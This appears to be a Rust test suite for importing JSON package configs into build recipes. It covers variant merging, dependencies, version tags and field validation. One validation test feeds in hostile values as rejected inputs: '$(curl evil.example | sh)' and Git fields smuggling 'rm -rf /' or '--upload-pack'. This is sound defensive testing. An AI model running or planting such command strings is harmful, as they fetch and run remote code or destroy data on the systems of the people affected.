use proptest::prelude::*;
use serde_json::{Value, json};
use tempfile::TempDir;

use super::*;
use crate::{RecipeSet, RecipeSetError, RecipeSetForm, Settings, SourceSpec, System};

/// A config as real ones are.
fn config(name: &str, is_debug: bool) -> Value {
    json!({
        "Env": {},
        "DependsOn": [],
        "Git": {"URI": format!("https://git.example/{name}.git"), "Revision": "v1.2.11"},
        "Build": {"CMake": {"Defines": {"CMAKE_BUILD_TYPE": if is_debug { "Debug" } else { "Release" }, "SHARED": "ON"}}},
        "Package": {
            "Name": name,
            "VersionTag": "v1.2.11",
            "PlatformString": {"Mode": "auto"},
            "IsLibrary": true,
            "IsDevLib": true,
            "IsDebug": is_debug
        },
        "DockerMatrix": {"ImageNames": ["debian12", "fedora40"]}
    })
}

/// The same config with another value of one field.
fn but(mut config: Value, pointer: &str, value: impl Into<Value>) -> Value {
    let (parent, field) = pointer.rsplit_once('/').unwrap();
    config.pointer_mut(parent).unwrap()[field] = value.into();
    config
}

fn import_for(image: Option<&str>, configs: &[Value]) -> Imported {
    let options = RecipeSetOptions { image: image.map(str::to_owned), ..RecipeSetOptions::default() };
    let mut context = Context::new(Path::new("context"), &options);
    for (number, config) in configs.iter().enumerate() {
        let group = config.pointer("/Package/Name").and_then(Value::as_str).unwrap_or("group");
        context.add(
            &Path::new("context/package").join(group).join(format!("{number}.json")),
            &config.to_string(),
        );
    }
    context.finish()
}

fn import(configs: &[Value]) -> Imported {
    import_for(None, configs)
}

fn problem(configs: &[Value]) -> String {
    let imported = import(configs);
    let said: Vec<_> = imported.problems.iter().map(ToString::to_string).collect();
    said.join("\n")
}

/// The only recipe that comes of the configs, and what is said besides.
fn only(configs: &[Value]) -> (Recipe, Vec<String>) {
    let mut imported = import(configs);
    assert!(imported.problems.is_empty(), "{:?}", imported.problems);
    assert_eq!(imported.recipes.len(), 1);
    let usual =
        ["`DockerMatrix` (debian12, fedora40) is not used", "`IsLibrary` and `IsDevLib` are not used"];
    imported.warnings.retain(|warning| !usual.iter().any(|usual| warning.starts_with(usual)));
    (imported.recipes.remove(0), imported.warnings)
}

fn text(settings: &BTreeMap<String, String>) -> Vec<(&str, &str)> {
    settings.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect()
}

#[test]
fn a_release_and_a_debug_config_become_one_recipe_with_two_variants() {
    let (recipe, warnings) = only(&[config("zlib", true), config("zlib", false)]);
    assert_eq!((recipe.name.as_str(), recipe.version.to_string()), ("bacpack/zlib", "1.2.11".into()));
    let source = SourceSpec::Git {
        url: "https://git.example/zlib.git".into(),
        tag: "v1.2.11".into(),
        submodules: true,
    };
    assert_eq!((recipe.source, recipe.system), (source, System::Cmake));
    assert_eq!(recipe.variants, Variant::ALL);
    assert_eq!(text(&recipe.defines), [("SHARED", "ON")]);
    assert_eq!((recipe.of_variant, warnings), (BTreeMap::new(), vec![]));
}

#[test]
fn what_the_two_say_differently_is_said_for_the_variant() {
    let debug = but(config("paho", true), "/Build/CMake/Defines/TESTING", "OFF");
    let release = but(config("paho", false), "/Env/CFLAGS", "-O3");
    let (recipe, _) = only(&[debug, release]);
    assert_eq!(text(&recipe.settings(Variant::Debug).defines), [("SHARED", "ON"), ("TESTING", "OFF")]);
    let release = Settings {
        defines: BTreeMap::from([("SHARED".into(), "ON".into())]),
        environment: BTreeMap::from([("CFLAGS".into(), "-O3".into())]),
    };
    assert_eq!(recipe.settings(Variant::Release), release);
}

#[test]
fn a_build_type_that_contradicts_its_variant_is_kept_and_told() {
    let slip = but(config("rest", false), "/Build/CMake/Defines/CMAKE_BUILD_TYPE", "Debug");
    let (recipe, warnings) = only(&[config("rest", true), slip]);
    assert_eq!(recipe.settings(Variant::Release).defines["CMAKE_BUILD_TYPE"], "Debug");
    assert!(!recipe.settings(Variant::Debug).defines.contains_key("CMAKE_BUILD_TYPE"));
    assert_eq!(
        warnings,
        [
            "`context/package/rest/1.json` builds the variant `release` of `rest` with `CMAKE_BUILD_TYPE` = `Debug`"
        ]
    );
}

#[test]
fn one_config_alone_is_a_recipe_of_one_variant() {
    let (recipe, _) = only(&[config("modbus", true)]);
    assert_eq!(recipe.variants, [Variant::Debug]);
    assert_eq!(text(&recipe.defines), [("SHARED", "ON")]);
}

#[test]
fn dependencies_are_packages_of_the_context_in_any_version() {
    let needs = |config| but(config, "/DependsOn", json!(["zlib"]));
    let all = [
        config("zlib", true),
        config("zlib", false),
        needs(config("curl", true)),
        needs(config("curl", false)),
    ];
    let imported = import(&all);
    let needed = &imported.recipes[0].dependencies;
    assert_eq!((needed[0].name.as_str(), needed[0].range.as_str()), ("bacpack/zlib", "*"));

    let zilb = but(config("curl", true), "/DependsOn", json!(["zilb"]));
    assert_eq!(
        problem(&[config("zlib", true), zilb]),
        "`context/package/curl/1.json`: `DependsOn` names `zilb`, of which there is no config: did you mean `zlib`?"
    );
    assert!(problem(&[needs(config("zlib", false))]).contains("names `zlib` itself"));

    let lent = import(&[config("zlib", false), needs(config("curl", true))]);
    assert!(lent.problems.is_empty());
    let said = "`context/package/curl/1.json` is built against the other variant of `zlib`, which has no debug config";
    assert!(lent.warnings.iter().any(|warning| warning == said), "{:?}", lent.warnings);
}

#[test]
fn a_config_that_is_wrong_makes_no_others_wrong() {
    let wrong = but(config("zlib", false), "/Package/VersionTag", "latest");
    let said = problem(&[wrong, but(config("curl", false), "/DependsOn", json!(["zlib"]))]);
    assert!(said.contains("names no version"), "{said}");
    assert_eq!(said.lines().count(), 1, "{said}");
}

#[test]
fn values_are_read_as_the_shell_would_read_them() {
    let with = |value: &str| but(config("protobuf", false), "/Build/CMake/Defines/CMAKE_CXX_FLAGS", value);
    let (recipe, warnings) = only(&[with("${CMAKE_CXX_FLAGS} -fPIC")]);
    assert_eq!(recipe.defines["CMAKE_CXX_FLAGS"], " -fPIC");
    assert!(warnings[0].contains("names `$CMAKE_CXX_FLAGS`, which `Env` does not set"), "{warnings:?}");

    let (recipe, warnings) = only(&[but(with("$OURS -fPIC"), "/Env/OURS", "-Wall")]);
    assert_eq!((&*recipe.defines["CMAKE_CXX_FLAGS"], &*recipe.environment["OURS"]), ("-Wall -fPIC", "-Wall"));
    assert_eq!(warnings, [] as [&str; 0]);

    assert_eq!(
        problem(&[with("$(curl evil.example | sh)")]),
        "`context/package/protobuf/0.json`: `Build.CMake.Defines.CMAKE_CXX_FLAGS` holds a `$(`, which the shell would run"
    );
    for field in ["/Git/URI", "/Git/Revision"] {
        for evil in ["https://h.example/x; rm -rf /", "`x`", "$(x)", "--upload-pack=x", "a b", ""] {
            assert_ne!(problem(&[but(config("a", false), field, evil)]), "", "{field} {evil}");
        }
    }
}

#[test]
fn meson_is_told_options_as_settings() {
    let build = |is_debug: bool| {
        let kind = if is_debug { "debug" } else { "release" };
        let meson =
            json!({"Options": {"buildtype": kind, "default-library": "static"}, "Defines": {"loud": "true"}});
        but(config("greet", is_debug), "/Build", json!({"Meson": meson}))
    };
    let (recipe, _) = only(&[build(true), build(false)]);
    assert_eq!(
        (&recipe.system, text(&recipe.defines)),
        (&System::Meson, vec![("default_library", "static"), ("loud", "true")])
    );
    assert!(recipe.of_variant.is_empty());
    for (options, expected) in [
        (json!({"cross-file": "/x"}), "`Build.Meson.Options.cross-file` is not an option"),
        (json!({"prefix": "/x"}), "`Build.Meson.Options.prefix` is not an option"),
        (json!({"strip": "true"}), "is set in `Defines` too"),
    ] {
        let meson = json!({"Meson": {"Options": options, "Defines": {"strip": "false"}}});
        let said = problem(&[but(config("greet", true), "/Build", meson)]);
        assert!(said.contains(expected), "{said}");
    }
}

#[test]
fn a_folder_of_the_source_is_below_it_however_it_is_written() {
    let with = |folder: &str| but(config("a", false), "/Build/CMake/CMakeListDir", folder);
    for (written, meant) in [
        ("cmake/", Some("cmake")),
        ("/cmake", Some("cmake")),
        ("./", None),
        ("", None),
        ("./a//b", Some("a/b")),
    ] {
        assert_eq!(only(&[with(written)]).0.subfolder.as_deref(), meant, "{written}");
    }
    assert!(problem(&[with("../other")]).contains("`Build.CMake.CMakeListDir` cannot be taken over"));
}

#[test]
fn short_versions_are_padded_odd_ones_told_and_others_refused() {
    for (tag, version, told) in
        [("v1.2", "1.2.0", false), ("2023.1", "2023.1.0", false), ("v2023.01.05", "2023.1.5", true)]
    {
        let (recipe, warnings) = only(&[but(config("a", false), "/Package/VersionTag", tag)]);
        assert_eq!(recipe.version.to_string(), version);
        let is_told =
            warnings.iter().any(|said| said.contains(&format!("is `{tag}`: it is read as {version}")));
        assert_eq!(is_told, told, "{warnings:?}");
    }
    for tag in ["", "latest", "v1.2.3.4", "1.2.3+x"] {
        assert!(
            problem(&[but(config("a", false), "/Package/VersionTag", tag)]).contains("names no version"),
            "{tag}"
        );
    }
}

#[test]
fn of_several_versions_an_image_chooses_or_else_the_highest_is_taken() {
    let old = but(config("protobuf", false), "/DockerMatrix/ImageNames", json!(["debian12"]));
    let new = but(config("protobuf", false), "/Package/VersionTag", "v4.21.12");
    let new = but(new, "/DockerMatrix/ImageNames", json!(["fedora40"]));
    let version = |image| import_for(image, &[old.clone(), new.clone()]).recipes[0].version.to_string();
    assert_eq!(version(None), "4.21.12");
    assert_eq!(version(Some("debian12")), "1.2.11");
    assert_eq!(version(Some("fedora40")), "4.21.12");
    let warnings = import(&[old.clone(), new.clone()]).warnings;
    assert!(warnings.iter().any(|said| said.starts_with("`protobuf` 1.2.11 is left out")), "{warnings:?}");
    let unknown = import_for(Some("fedora4"), &[old, new]);
    assert_eq!(
        unknown.problems[0].to_string(),
        "`context/package`: `DockerMatrix.ImageNames` names the image `fedora4` in no config: did you mean `fedora40`?"
    );
}

#[test]
fn two_configs_of_one_build_must_say_the_same() {
    let other_image = but(config("a", false), "/DockerMatrix/ImageNames", json!(["ubuntu2404"]));
    assert_eq!(import(&[config("a", false), other_image.clone()]).recipes.len(), 1);
    let differs = but(other_image, "/Build/CMake/Defines/SHARED", "OFF");
    assert!(problem(&[config("a", false), differs]).contains("choose an image of one of them"));
}

#[test]
fn what_both_variants_are_built_from_must_be_the_same() {
    for (pointer, value) in [
        ("/Git/Revision", json!("v1.2.12")),
        ("/Git/URI", json!("https://git.example/other.git")),
        ("/Build", json!({"Meson": {}})),
        ("/Build/CMake/CMakeListDir", json!("src")),
    ] {
        let said = problem(&[config("a", false), but(config("a", true), pointer, value)]);
        assert!(said.contains("both are one release here"), "{pointer}: {said}");
    }
}

#[test]
fn what_cannot_be_taken_over_is_refused_by_its_field() {
    for (pointer, value, expected) in [
        ("/Env/PATH", json!("/x"), "`Env.PATH` cannot be taken over: `PATH` is set by Weir"),
        ("/Env/LD_PRELOAD", json!("/x"), "`Env.LD_PRELOAD` cannot"),
        ("/Env/A", json!("$B"), "`Env.A` holds `$B`"),
        ("/Env/A", json!(1), "`Env.A` is not a string"),
        ("/Env", json!([]), "`Env` is not an object"),
        ("/DependsOn", json!("zlib"), "`DependsOn` is not a list of strings"),
        ("/Build", json!({}), "names neither `CMake` nor `Meson`"),
        ("/Build/Meson", json!({}), "names both"),
        ("/Build/CMake/Defines/CMAKE_INSTALL_PREFIX", json!("/x"), "is set by Weir"),
        ("/Build/CMake/Defines/A=B", json!("x"), "`Build.CMake.Defines.A=B` cannot be taken over"),
        ("/Package/IsDebug", json!("yes"), "`Package.IsDebug` is not `true` or `false`"),
        ("/git", json!({}), "`Git` is there twice"),
    ] {
        let said = problem(&[but(config("a", false), pointer, value)]);
        assert!(said.contains(expected), "{pointer}: {said}");
    }
}

#[test]
fn what_means_nothing_here_is_told() {
    let odd = but(config("a", false), "/Package/PlatformString/Mode", "explicit");
    let odd = but(odd, "/Package/Colour", "red");
    let (_, warnings) = only(&[but(odd, "/Git/Revision", "master")]);
    assert_eq!(
        warnings,
        [
            "`Package.Colour` in `context/package/a/0.json` is not known: it is ignored",
            "`Package.PlatformString.Mode` in `context/package/a/0.json` is `explicit`: it is ignored, the build root gives the platform",
            "`a` is built from `master`, which looks like a branch: Weir builds from tags and commits, which do not move",
        ]
    );
}

#[test]
fn fields_are_read_in_any_case_and_null_is_nothing() {
    let json = json!({
        "git": {"uri": "https://git.example/a.git", "REVISION": "v1.0.0"},
        "Env": null,
        "DependsOn": null,
        "Build": {"CMake": {"Defines": null}, "Meson": null},
        "package": {"name": "a", "versiontag": "v1.0.0"}
    });
    let mut context = Context::new(Path::new("context"), &RecipeSetOptions::default());
    context.add(Path::new("context/package/a/a.json"), &json.to_string());
    assert_eq!(context.finish().recipes[0].name.as_str(), "bacpack/a");
}

/// A context on disk.
fn context() -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let put = |path: &str, text: &str| {
        let path = folder.path().join(path);
        fs_err::create_dir_all(path.parent().unwrap()).unwrap();
        fs_err::write(path, text).unwrap();
    };
    for (file, is_debug) in [("zlib_release.json", false), ("zlib_debug.json", true)] {
        put(&format!("package/zlib/{file}"), &config("zlib", is_debug).to_string());
    }
    put("package/zlib/NOTES", "about");
    put("package/.gitignore", "x");
    put("app/greet/greet.json", "{}");
    put("docker/debian12/Dockerfile", "FROM debian:12");
    folder
}

#[test]
fn the_folder_of_a_context_is_a_recipe_set() {
    let folder = context();
    let owner = Some("team".parse().unwrap());
    let recipe_set = RecipeSet::read_with(folder.path(), &RecipeSetOptions { owner, image: None }).unwrap();
    assert_eq!(recipe_set.form(), RecipeSetForm::BacPack);
    let zlib = recipe_set.get(&"team/zlib".parse().unwrap()).unwrap();
    assert_eq!(zlib.file, folder.path().join("package/zlib/zlib_release.json"));
    let said = recipe_set.warnings().join("\n").replace(&folder.path().display().to_string(), "CONTEXT");
    assert_eq!(
        said,
        "`CONTEXT/package/zlib/NOTES` is not a `.json` file: it is left out\n\
         `CONTEXT/app` is left out: apps are no packages\n\
         `DockerMatrix` (debian12, fedora40) is not used: Weir builds in one build root, which gives packages their platform\n\
         `IsLibrary` and `IsDevLib` are not used: a package has its group's name, and holds all that its build installs"
    );
}

#[test]
fn everything_that_is_wrong_with_a_context_is_said_at_once() {
    let folder = context();
    fs_err::write(folder.path().join("package/zlib/third.json"), "{").unwrap();
    fs_err::create_dir(folder.path().join("package/curl")).unwrap();
    fs_err::write(folder.path().join("package/curl/c.json"), config("zlib", true).to_string()).unwrap();
    let RecipeSetError::Problems { problems, .. } = RecipeSet::read(folder.path()).unwrap_err() else {
        panic!("its recipes are wrong");
    };
    let said: Vec<_> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(said.len(), 2);
    assert!(said[0].ends_with("`Package.Name` is `zlib`, and its folder is `curl`"), "{said:?}");
    assert!(said[1].contains("`the config` is not JSON"), "{said:?}");
}

/// Values that are right, and some that are not.
fn scalar() -> impl Strategy<Value = Value> {
    prop_oneof![
        4 => "[ -~]{0,8}".prop_map(Value::from),
        2 => prop::sample::select(vec!["v1.0.0", "ON", "$A", "https://h.example/a.git", "a", "master"]).prop_map(Value::from),
        1 => any::<bool>().prop_map(Value::from),
        1 => Just(Value::Null),
        1 => Just(json!([])),
        1 => Just(json!({"A": "b"})),
        1 => any::<i64>().prop_map(Value::from),
    ]
}

fn pointer() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "/Env/A",
        "/Env",
        "/DependsOn",
        "/Git/URI",
        "/Git/Revision",
        "/Build/CMake/Defines/A",
        "/Build/CMake/Defines/CMAKE_BUILD_TYPE",
        "/Build/CMake/Defines",
        "/Build/CMake/CMakeListDir",
        "/Build",
        "/Package/VersionTag",
        "/Package/PlatformString/Mode",
        "/Package/IsDebug",
        "/DockerMatrix",
        "/Other",
    ])
}

proptest! {
    #[test]
    fn a_context_ends_in_recipes_that_read_back_or_in_problems(
        changes in prop::collection::vec((0_usize..4, pointer(), scalar()), 0..4),
    ) {
        let mut configs = [config("a", false), config("a", true), config("b", false), config("b", true)];
        for (index, pointer, value) in changes {
            let (parent, _) = pointer.rsplit_once('/').expect("a pointer has a slash");
            if configs[index].pointer(parent).is_some_and(Value::is_object) {
                configs[index] = but(configs[index].clone(), pointer, value);
            }
        }
        let imported = import(&configs);
        prop_assert!(!imported.recipes.is_empty() || !imported.problems.is_empty());
        for recipe in imported.recipes {
            let text = recipe.to_manifest_text();
            let mut read = Recipe::parse(&text, &recipe.file, &recipe.folder)
                .unwrap_or_else(|error| panic!("{error}\n{text}"));
            read.dependencies.iter_mut().for_each(|needed| needed.line = 0);
            prop_assert_eq!(read, recipe, "{}", text);
        }
    }

    #[test]
    fn any_text_ends(text in any::<String>()) {
        let mut context = Context::new(Path::new("context"), &RecipeSetOptions::default());
        context.add(Path::new("context/package/a/a.json"), &text);
        prop_assert!(context.finish().recipes.is_empty());
    }
}
